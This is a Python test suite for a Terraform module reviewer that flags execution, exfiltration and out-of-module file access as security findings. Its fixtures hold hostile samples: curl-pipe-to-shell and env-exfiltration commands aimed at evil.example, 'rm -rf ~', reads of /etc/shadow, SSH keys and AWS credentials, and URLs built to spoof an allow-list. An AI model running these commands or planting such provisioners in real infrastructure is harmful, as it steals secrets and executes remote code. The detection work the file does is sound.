"""Execution and exfiltration constructs are failing security findings of the review.

Each construct is reviewed as a module of its own (Terraform's parser first, then the policy):
the finding names its check, severity, file and line. A clean module, module sources inside the
module and paths inside it raise none of them; allow-lists let an operator permit hosts and
sources; a skip written in the module does not waive them.
"""

from __future__ import annotations

import pytest

from core.terraform.policy import EXEC_RULES
from core.terraform.policy_exec import Allowances, allowing
from core.terraform.review import review_module

CHECKS = {"parse", "policy"}
EXEC_IDS = {rule.id for rule in EXEC_RULES}
PIN = (
    'terraform {\n  required_providers {\n    aws = {\n      source  = "hashicorp/aws"\n'
    '      version = "6.69.1"\n    }\n  }\n}\n'
)


def line_of(text: str, marker: str) -> int:
    return next(n for n, line in enumerate(text.splitlines(), 1) if marker in line)


def exec_findings(files: dict[str, str]):  # noqa: ANN201
    review = review_module(files, CHECKS)
    assert "policy" in review.checks_run, [f.message for f in review.findings]
    return [f for f in review.findings if f.check_id in EXEC_IDS]


# (name, body of exec.tf, check id, severity, marker on the finding's line, words in the message)
CONSTRUCTS = [
    ("local-exec",
     'resource "null_resource" "run" {\n  provisioner "local-exec" {\n'
     '    command = "curl -s http://evil.example/x.sh | sh"\n  }\n}\n',
     "ARCHOPS_EXEC_PROVISIONER", "critical", 'provisioner "local-exec"', "curl -s http://evil.example/x.sh"),
    ("remote-exec",
     'resource "aws_instance" "vm" {\n  ami = "ami-12345678"\n  instance_type = "t4g.micro"\n'
     '  provisioner "remote-exec" {\n    inline = ["id"]\n  }\n}\n',
     "ARCHOPS_EXEC_PROVISIONER", "critical", 'provisioner "remote-exec"', "remote host"),
    ("file provisioner",
     'resource "terraform_data" "copy" {\n  provisioner "file" {\n    source      = "/etc/shadow"\n'
     '    destination = "/tmp/s"\n  }\n}\n',
     "ARCHOPS_EXEC_PROVISIONER", "critical", 'provisioner "file"', "/etc/shadow"),
    ("other provisioner",
     'resource "terraform_data" "x" {\n  provisioner "mine" {\n    server = "p.example"\n  }\n}\n',
     "ARCHOPS_EXEC_PROVISIONER", "critical", 'provisioner "mine"', "runs code"),
    ("destroy-time provisioner in a removed block",
     'removed {\n  from = terraform_data.gone\n  lifecycle {\n    destroy = true\n  }\n'
     '  provisioner "local-exec" {\n    when    = destroy\n    command = "rm -rf ~"\n  }\n}\n',
     "ARCHOPS_EXEC_PROVISIONER", "critical", 'provisioner "local-exec"', "rm -rf ~"),
    ("connection",
     'resource "terraform_data" "c" {\n  connection {\n    type = "ssh"\n    host = "10.0.0.9"\n  }\n}\n',
     "ARCHOPS_EXEC_CONNECTION", "high", "connection {", "10.0.0.9"),
    ("triggers",
     'resource "null_resource" "t" {\n  triggers = {\n    always = timestamp()\n  }\n'
     '  provisioner "local-exec" {\n    command = "echo ${self.triggers.always}"\n  }\n}\n',
     "ARCHOPS_EXEC_TRIGGERS", "high", "triggers = {", "re-runs the provisioner commands"),
    ("terraform_data triggers_replace",
     'resource "terraform_data" "t" {\n  triggers_replace = [timestamp()]\n'
     '  provisioner "local-exec" {\n    command = "date"\n  }\n}\n',
     "ARCHOPS_EXEC_TRIGGERS", "high", "triggers_replace", "re-runs"),
    ("data external",
     'data "external" "env" {\n  program = ["sh", "-c", "env | curl -d @- http://evil.example"]\n}\n',
     "ARCHOPS_EXEC_EXTERNAL", "critical", "program =", "env | curl -d @-"),
    ("external provider required",
     'terraform {\n  required_providers {\n    external = {\n      source = "hashicorp/external"\n'
     '    }\n  }\n}\n',
     "ARCHOPS_EXEC_EXTERNAL", "critical", "external = {", "external"),
    ("an action running a local command",
     'action "local_command" "x" {\n  config {\n    command = "id"\n  }\n}\n',
     "ARCHOPS_EXEC_EXTERNAL", "critical", 'action "local_command"', "runs a command"),
    ("a provider exec plugin",
     'provider "kubernetes" {\n  host = "https://k8s.example"\n  exec {\n    api_version = "client.authentication.k8s.io/v1beta1"\n'
     '    command     = "sh"\n    args        = ["-c", "id"]\n  }\n}\n',
     "ARCHOPS_EXEC_EXTERNAL", "critical", "exec {", "(exec) at every plan"),
    ("a provider endpoint outside AWS",
     'provider "aws" {\n  region = "us-east-1"\n  endpoints {\n    s3 = "https://collect.evil.example"\n  }\n}\n',
     "ARCHOPS_EXFIL_PROVIDER_ENDPOINT", "high", "s3 =", "collect.evil.example"),
    ("a provider proxy",
     'provider "aws" {\n  region     = "us-east-1"\n  https_proxy = "http://proxy.evil.example:8080"\n}\n',
     "ARCHOPS_EXFIL_PROVIDER_ENDPOINT", "high", "https_proxy", "proxy.evil.example"),
    ("a local backend writing outside",
     'terraform {\n  backend "local" {\n    path = "/tmp/stolen.tfstate"\n  }\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "path =", "/tmp/stolen.tfstate"),
    ("data http to an outside host",
     'data "http" "beacon" {\n  url = "https://evil.example/c"\n}\n',
     "ARCHOPS_EXFIL_HTTP", "high", "url =", "evil.example"),
    ("data http to a computed host",
     'variable "u" {\n  type = string\n}\ndata "http" "c" {\n  url = var.u\n}\n',
     "ARCHOPS_EXFIL_HTTP", "high", "url = var.u", "not known before plan"),
    ("data http scoped in a check block",
     'check "up" {\n  data "http" "site" {\n    url = "https://status.example/ok"\n  }\n'
     '  assert {\n    condition     = data.http.site.status_code == 200\n    error_message = "down"\n  }\n}\n',
     "ARCHOPS_EXFIL_HTTP", "high", "url =", "status.example"),
    ("dns lookup",
     'data "dns_txt_record_set" "x" {\n  host = "leak.evil.example"\n}\n',
     "ARCHOPS_EXFIL_HTTP", "high", "host =", "leak.evil.example"),
    ("remote state over http",
     'data "terraform_remote_state" "s" {\n  backend = "http"\n  config = {\n    address = "https://state.evil.example/x"\n  }\n}\n',
     "ARCHOPS_EXFIL_HTTP", "high", "config = {", "state.evil.example"),
    ("git module",
     'module "m" {\n  source = "git::https://github.com/evil/mod.git"\n}\n',
     "ARCHOPS_MODULE_SOURCE", "high", "source =", "git repository"),
    ("registry module",
     'module "m" {\n  source  = "terraform-aws-modules/vpc/aws"\n  version = "5.0.0"\n}\n',
     "ARCHOPS_MODULE_SOURCE", "high", "source  =", "module registry"),
    ("module climbing out",
     'module "m" {\n  source = "../shared"\n}\n',
     "ARCHOPS_MODULE_SOURCE", "high", "source =", "leaves the module directory"),
    ("third-party provider",
     'terraform {\n  required_providers {\n    evil = {\n      source = "evilcorp/evil"\n    }\n  }\n}\n',
     "ARCHOPS_PROVIDER_SOURCE", "high", "evil = {", "evilcorp/evil"),
    ("file() absolute",
     'output "s" {\n  value     = file("/etc/shadow")\n  sensitive = true\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", 'file("/etc/shadow")', "/etc/shadow"),
    ("templatefile() climbing",
     'output "t" {\n  value = templatefile("${path.module}/../../x.tpl", {})\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "templatefile(", "../../x.tpl"),
    ("filemd5() home",
     'output "h" {\n  value = filemd5("~/.ssh/id_rsa")\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "filemd5(", "~/.ssh/id_rsa"),
    ("filesha256() path.root climbing",
     'output "h" {\n  value = filesha256("${path.root}/../state")\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "filesha256(", "../state"),
    ("filebase64sha512() relative climbing",
     'output "h" {\n  value = filebase64sha512("../../etc/hosts")\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "filebase64sha512(", "../../etc/hosts"),
    ("fileexists() probe",
     'output "h" {\n  value = fileexists("/root/.aws/credentials")\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "fileexists(", "/root/.aws/credentials"),
    ("fileset() pattern climbing",
     'output "h" {\n  value = fileset(path.module, "../../**")\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "fileset(", "the pattern climbs"),
    ("fileset() pattern with a brace alternative climbing",
     'output "h" {\n  value = fileset(path.module, "{../../etc/*,x}")\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "fileset(", "the pattern climbs"),
    ("abspath() of a path outside",
     'locals {\n  up = abspath("${path.module}/../..")\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "abspath(", "climbs out"),
    ("a local that climbs out",
     'locals {\n  dir = "${path.module}/../secrets"\n}\noutput "h" {\n  value = filebase64("${local.dir}/key")\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "filebase64(", "../secrets/key"),
    ("file() from a variable",
     'variable "p" {\n  type = string\n}\noutput "v" {\n  value = file(var.p)\n}\n',
     "ARCHOPS_FILE_PATH_UNKNOWN", "medium", "file(var.p)", "var.p"),
    ("file() under path.cwd",
     'output "c" {\n  value = filesha1("${path.cwd}/x")\n}\n',
     "ARCHOPS_FILE_PATH_UNKNOWN", "medium", "filesha1(", "path.cwd"),
    ("local_file writing outside",
     'resource "local_file" "rc" {\n  filename = pathexpand("~/.bashrc")\n  content  = "x"\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "filename =", "writes ~/.bashrc"),
    ("archive_file of a folder outside",
     'data "archive_file" "z" {\n  type        = "zip"\n  source_dir  = "/home"\n'
     '  output_path = "${path.module}/z.zip"\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "source_dir", "/home"),
    ("a lambda package an archive wrote outside",
     'data "archive_file" "z" {\n  type        = "zip"\n  source_file = "${path.module}/x.py"\n'
     '  output_path = "/tmp/z.zip"\n}\nresource "aws_lambda_function" "f" {\n  function_name = "f"\n'
     '  role          = "arn:aws:iam::1:role/r"\n  filename      = data.archive_file.z.output_path\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "output_path =", "writes /tmp/z.zip"),
    ("an object uploaded from outside",
     'resource "aws_s3_object" "o" {\n  bucket = "b"\n  key    = "k"\n  source = "../../../etc/passwd.txt"\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "source =", "../../../etc/passwd.txt"),
    ("remote state from a local file outside",
     'data "terraform_remote_state" "s" {\n  backend = "local"\n  config = {\n    path = "/var/lib/other.tfstate"\n  }\n}\n',
     "ARCHOPS_FILE_OUTSIDE_MODULE", "high", "config = {", "/var/lib/other.tfstate"),
]


@pytest.mark.parametrize(("body", "check_id", "severity", "marker", "words"),
                         [c[1:] for c in CONSTRUCTS], ids=[c[0] for c in CONSTRUCTS])
def test_each_construct_is_its_finding(body: str, check_id: str, severity: str, marker: str,
                                       words: str) -> None:
    files = {"exec.tf": body} if body.startswith("terraform {") else {"versions.tf": PIN, "exec.tf": body}
    findings = exec_findings(files)
    mine = [f for f in findings if f.check_id == check_id]
    assert mine, f"no {check_id}: {[(f.check_id, f.message) for f in findings]}"
    finding = mine[0]
    assert (finding.severity, finding.pillar, finding.file) == (severity, "security", "exec.tf")
    assert finding.line == line_of(body, marker)
    assert words in finding.message and finding.fix
    assert finding.failing


def test_the_issue_module_fails_every_way() -> None:
    body = (
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
        '    command = "curl -s http://evil.example/x.sh | sh"\n  }\n}\n'
        'data "external" "env" {\n  program = ["sh", "-c", "env | curl -d @- http://evil.example"]\n}\n'
        'data "http" "out" {\n  url = "http://evil.example/"\n}\n'
        'output "shadow" {\n  value     = file("/etc/shadow")\n  sensitive = true\n}\n'
    )
    review = review_module({"versions.tf": PIN, "main.tf": body}, CHECKS)
    assert not review.passed
    assert {"ARCHOPS_EXEC_PROVISIONER", "ARCHOPS_EXEC_EXTERNAL", "ARCHOPS_EXFIL_HTTP",
            "ARCHOPS_FILE_OUTSIDE_MODULE"} <= {f.check_id for f in review.failing}


CLEAN = PIN + (
    'resource "aws_s3_bucket" "b" {\n  bucket = "acme-clean"\n}\n'
    'resource "aws_s3_object" "o" {\n  bucket      = aws_s3_bucket.b.id\n  key         = "index.html"\n'
    '  source      = "${path.module}/site/index.html"\n  source_hash = filemd5("${path.module}/site/index.html")\n}\n'
    'locals {\n  files = fileset("${path.module}/site", "**/*.css")\n  tpl = "${path.module}/t"\n}\n'
    'output "policy" {\n  value = templatefile("${local.tpl}/p.json.tpl", { name = "x" })\n}\n'
    'output "plain" {\n  value = file("notes/readme.txt")\n}\n'
    'data "archive_file" "fn" {\n  type        = "zip"\n  output_path = "${path.module}/build/fn.zip"\n'
    '  source {\n    content  = "exports.handler = async () => 1"\n    filename = "index.js"\n  }\n}\n'
    'module "net" {\n  source = "./modules/net"\n}\n'
    'provider "aws" {\n  region = "us-east-1"\n  endpoints {\n    sts = "https://sts.us-east-1.amazonaws.com"\n  }\n}\n'
    'module "inner" {\n  source = "./modules/a/../b"\n}\n'
    'resource "aws_s3_object" "site" {\n  for_each = fileset("${path.module}/site", "**")\n'
    '  bucket   = aws_s3_bucket.b.id\n  key      = each.value\n'
    '  source   = "${path.module}/site/${each.value}"\n'
    '  etag     = filemd5("${path.module}/site/${each.value}")\n}\n'
    'resource "aws_lambda_function" "fn" {\n  function_name = "fn"\n  role = "arn:aws:iam::1:role/r"\n'
    '  filename = data.archive_file.fn.output_path\n}\n'
    'resource "aws_s3_object" "numbered" {\n  count  = 2\n  bucket = aws_s3_bucket.b.id\n'
    '  key    = "part-${count.index}"\n  source = "${path.module}/parts/${count.index}.bin"\n}\n'
)


def test_a_clean_module_has_none_of_them() -> None:
    assert exec_findings({"main.tf": CLEAN}) == []


@pytest.mark.parametrize("source", ["./modules/net", "./a/../b", "./", "./x/y/z"])
def test_module_sources_inside_are_fine(source: str) -> None:
    assert exec_findings({"versions.tf": PIN, "m.tf": f'module "m" {{\n  source = "{source}"\n}}\n'}) == []


@pytest.mark.parametrize("source", [
    "../x", "./a/../../b", "git::https://github.com/acme/mod.git", "github.com/acme/mod",
    "https://example.com/mod.zip", "s3::https://s3.amazonaws.com/b/mod.zip",
    "app.terraform.io/acme/vpc/aws", "hashicorp/consul/aws", "gcs::https://www.googleapis.com/b/m",
    "hg::http://example.com/repo",
])
def test_module_sources_outside_are_refused(source: str) -> None:
    findings = exec_findings({"versions.tf": PIN, "m.tf": f'module "m" {{\n  source = "{source}"\n}}\n'})
    assert [(f.check_id, f.line) for f in findings] == [("ARCHOPS_MODULE_SOURCE", 2)]


def test_an_operator_allows_hosts_and_sources() -> None:
    body = (
        'data "http" "ip" {\n  url = "https://checkip.amazonaws.com/"\n}\n'
        'data "http" "meta" {\n  url = "https://api.acme.example/v1"\n}\n'
        'module "vpc" {\n  source  = "terraform-aws-modules/vpc/aws"\n  version = "5.0.0"\n}\n'
        'module "own" {\n  source = "git::https://github.com/acme/mods.git//net?ref=v1"\n}\n'
        'module "other" {\n  source = "git::https://github.com/acme-evil/mods.git"\n}\n'
    )
    files = {"versions.tf": PIN, "main.tf": body}
    assert len(exec_findings(files)) == 5
    allowed = Allowances(http_hosts=("checkip.amazonaws.com", ".acme.example"),
                         module_sources=("terraform-aws-modules/", "git::https://github.com/acme/"))
    with allowing(allowed):
        left = exec_findings(files)
    assert [(f.check_id, f.address) for f in left] == [("ARCHOPS_MODULE_SOURCE", "module.other")]
    assert len(exec_findings(files)) == 5  # outside the with block nothing is allowed again
    climbing = {"versions.tf": PIN, "main.tf": 'module "m" {\n  source = "git::https://github.com/acme/../evil/x.git"\n}\n'}
    with allowing(allowed):
        assert [f.check_id for f in exec_findings(climbing)] == ["ARCHOPS_MODULE_SOURCE"]


def test_allowances_from_settings() -> None:
    from core.settings import Settings

    settings = Settings(review_http_hosts="a.example, .b.example", review_module_sources="acme/")
    allowed = Allowances.from_settings(settings)
    assert allowed.http_hosts == ("a.example", ".b.example") and allowed.module_sources == ("acme/",)
    assert Allowances.from_settings(Settings()).provider_sources == ("hashicorp/",)
    assert Allowances.from_settings(Settings()).http_hosts == ()


def test_each_value_of_another_for_each_is_not_known() -> None:
    body = ('variable "files" {\n  type = set(string)\n}\n'
            'resource "aws_s3_object" "o" {\n  for_each = var.files\n  bucket   = "b"\n'
            '  key      = each.key\n  source   = "${path.module}/${each.value}"\n}\n')
    (finding,) = exec_findings({"versions.tf": PIN, "main.tf": body})
    assert (finding.check_id, finding.severity, finding.line) == ("ARCHOPS_FILE_PATH_UNKNOWN", "medium", 8)


@pytest.mark.parametrize("url", ["https://checkip.amazonaws.com@evil.example/",
                                 "https://evil.example\\\\@checkip.amazonaws.com/",
                                 "https://checkip.amazonaws.com.evil.example/",
                                 "https://${var.h}/checkip.amazonaws.com"])
def test_an_allowed_host_cannot_be_spoofed(url: str) -> None:
    body = f'variable "h" {{\n  type = string\n}}\ndata "http" "x" {{\n  url = "{url}"\n}}\n'
    with allowing(Allowances(http_hosts=("checkip.amazonaws.com",))):
        findings = exec_findings({"versions.tf": PIN, "main.tf": body})
    assert [f.check_id for f in findings] == ["ARCHOPS_EXFIL_HTTP"]


def test_a_skip_in_the_module_does_not_waive_them() -> None:
    body = ('resource "terraform_data" "x" {\n'
            '  # archops:skip=ARCHOPS_EXEC_PROVISIONER reason="trust me"\n'
            '  provisioner "local-exec" {\n    command = "id"\n  }\n}\n')
    (finding,) = [f for f in exec_findings({"versions.tf": PIN, "main.tf": body})
                  if f.check_id == "ARCHOPS_EXEC_PROVISIONER"]
    assert finding.failing and finding.skip_reason is None
    assert "does not waive" in finding.message


@pytest.mark.parametrize("expression", ['tonumber(file("/etc/hostname"))', "file(var.p)",
                                        'length(fileset("/", "**"))', 'file("/dev/zero")'])
def test_the_plan_never_reads_files_outside_the_module(expression: str) -> None:
    """Terraform evaluates file() while planning: a value can come back in a diagnostic
    ("cannot convert \"<the file>\" to number"), a device can hang it. Such a module is not planned."""
    body = f'variable "p" {{\n  type    = string\n  default = "/etc/hostname"\n}}\noutput "x" {{\n  value = {expression}\n}}\n'
    review = review_module({"main.tf": body}, {"parse", "plan"})
    assert [f.check_id for f in review.findings] == ["plan_refused"]
    (finding,) = review.findings
    assert finding.failing and (finding.file, finding.line) == ("main.tf", 6)
    assert review.plan is None


def test_the_plan_never_reads_another_state() -> None:
    body = ('data "terraform_remote_state" "net" {\n  backend = "s3"\n  config = {\n'
            '    bucket = "other-team-state"\n    key    = "net.tfstate"\n    region = "us-east-1"\n  }\n}\n')
    review = review_module({"main.tf": body}, {"parse", "plan"})
    assert [(f.check_id, f.line, f.failing) for f in review.findings] == [("plan_refused", 1, True)]
